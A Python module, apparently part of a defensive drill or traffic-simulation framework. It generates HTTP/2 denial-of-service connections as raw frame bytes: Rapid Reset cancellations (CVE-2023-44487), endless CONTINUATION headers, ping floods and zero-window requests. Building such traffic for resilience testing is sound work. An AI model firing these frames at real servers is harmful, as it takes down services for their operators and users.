"""A24: HTTP/2 used against the front: cancelled streams, headers without end, pings, and answers that are not read.

Frames and codes: RFC 9113, sections 4.1 and 6; header fields: RFC 7541, section 6 and the static table in appendix A.
"""

from __future__ import annotations

from collections.abc import Iterator
from enum import Enum
from random import Random

from stormpetrel.drill.vectors.attack_requests import AttackRequest, Behaviour, World, arrivals, scattered
from stormpetrel.drill.vectors.crowd import victim_pages
from stormpetrel.drill.vectors.heads import BROWSERS

PER_S = 10.0
"""Connections; each sends up to a thousand requests."""
ADDRESSES = 500
HOLD_S = 15.0
CANCELLED = 1000
"""Streams that one connection opens and cancels (Rapid Reset, CVE-2023-44487)."""
CONTINUATIONS = 500
"""Frames of headers that do not end, of a kilobyte each (VU#421644)."""
PINGS = 5000
UNREAD = 100
"""Requests whose answers get no window: the usual limit of open streams."""

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0x1, 0x3, 0x4, 0x6, 0x9
_END_STREAM, _END_HEADERS = 0x1, 0x4
_CANCEL = (8).to_bytes(4)
_INITIAL_WINDOW_SIZE = 0x4
# Entries of the static table: `:method: GET`, `:scheme: https`; names of `:path`, `:authority` and `user-agent`.
_GET, _HTTPS = b"\x82", b"\x87"
_PATH, _AUTHORITY, _USER_AGENT = b"\x04", b"\x01", b"\x0f\x2b"


class Http2Abuse(Enum):
    """A use of HTTP/2 that costs the front more than the client."""

    CANCELLED = "requests that are cancelled at once"
    ENDLESS = "headers without end"
    PINGS = "pings"
    UNREAD = "requests whose answers get no window"


def abuse(world: World, rng: Random) -> Iterator[AttackRequest]:
    """A24: connections of each kind in equal parts."""
    page = victim_pages(world)[0]
    prepared = [frames(kind, world.host, page, BROWSERS[1]) for kind in Http2Abuse]
    for at_s in arrivals(rng, PER_S * world.scale, world.seconds):
        source = scattered(174, 1, rng.randrange(ADDRESSES))
        yield AttackRequest(at_s, source, (rng.choice(prepared),), Behaviour.HTTP2, hold_s=HOLD_S)


def frames(kind: Http2Abuse, host: str, path: str, agent: str) -> bytes:
    """Return all bytes of a connection of this kind, which requests `path`."""
    fields = b"".join(
        (_GET, _HTTPS, *map(_text_of, ((_PATH, path), (_AUTHORITY, host), (_USER_AGENT, agent))))
    )
    settings, sent = b"", []
    match kind:
        case Http2Abuse.CANCELLED:
            for stream in range(1, 2 * CANCELLED, 2):
                sent.append(_frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, fields))
                sent.append(_frame(_RST_STREAM, 0, stream, _CANCEL))
        case Http2Abuse.ENDLESS:
            sent.append(_frame(_HEADERS, _END_STREAM, 1, fields))
            for number in range(CONTINUATIONS):
                field = b"\0" + _text(b"x-%d" % number) + _text(b"a" * 1000)
                sent.append(_frame(_CONTINUATION, 0, 1, field))
        case Http2Abuse.PINGS:
            sent = [_frame(_PING, 0, 0, number.to_bytes(8)) for number in range(PINGS)]
        case Http2Abuse.UNREAD:
            settings = _INITIAL_WINDOW_SIZE.to_bytes(2) + (0).to_bytes(4)
            for stream in range(1, 2 * UNREAD, 2):
                sent.append(_frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, fields))
    return b"".join((_PREFACE, _frame(_SETTINGS, 0, 0, settings), *sent))


def _text_of(field: tuple[bytes, str]) -> bytes:
    name, value = field
    return name + _text(value.encode())


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def _text(value: bytes) -> bytes:
    """Return a string without Huffman coding, after its length (RFC 7541, sections 5.1 and 5.2)."""
    length = len(value)
    if length < 127:
        return bytes((length,)) + value
    digits = [127]
    length -= 127
    while length >= 128:
        digits.append(length % 128 + 128)
        length //= 128
    return bytes((*digits, length)) + value
